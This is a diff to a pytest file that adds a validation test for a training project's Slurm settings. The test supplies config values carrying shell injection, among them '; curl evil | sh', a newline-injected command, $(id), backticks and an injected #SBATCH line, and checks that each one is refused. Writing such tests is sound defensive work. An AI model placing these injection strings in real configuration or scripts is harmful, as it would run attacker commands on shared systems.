@@ -16,6 +16,7 @@ from pathlib import Path
 import numpy as np
 import pandas as pd
 import pytest
+import yaml
 import zstandard
 
 from lmforge.data.cleaning import clean_corpus, clean_documents
@@ -368,6 +369,26 @@ def test_pretraining_reads_token_shards_as_the_flat_split_and_resumes_exactly(tm
     for model in (sharded.model, resumed.model):
         for name, value in model.state_dict().items():
             assert torch.equal(value, reference[name]), f"{name} differs"
+
+
+@pytest.mark.parametrize("key, value", [
+    ("venv_path", "/shared/.venv; curl evil | sh"),
+    ("venv_path", "/shared/.venv\ntouch /tmp/owned"),
+    ("venv_path", "relative/.venv"),
+    ("partition", "cpu$(id)"),
+    ("qos", "normal`id`"),
+    ("sbatch_args", {"account": "lm\n#SBATCH --wrap=id"}),
+    ("sbatch_args", {"account; id": "lm"}),
+])
+def test_slurm_values_that_a_shell_would_read_as_syntax_are_refused_with_their_key(key, value):
+    """The Slurm section is written raw into an sbatch script: shell syntax never gets that far
+    (a flow's -S override passes through the same validation)."""
+    from lmforge.config import ConfigError, validate_params
+
+    raw = yaml.safe_load((ROOT / "params.yaml").read_text())
+    raw.setdefault("data_engine", {}).setdefault("slurm", {})[key] = value
+    with pytest.raises(ConfigError, match=f"data_engine.slurm.{key}"):
+        validate_params(raw)
 
 
 def test_the_slurm_engine_takes_the_params_slurm_section(tmp_path):
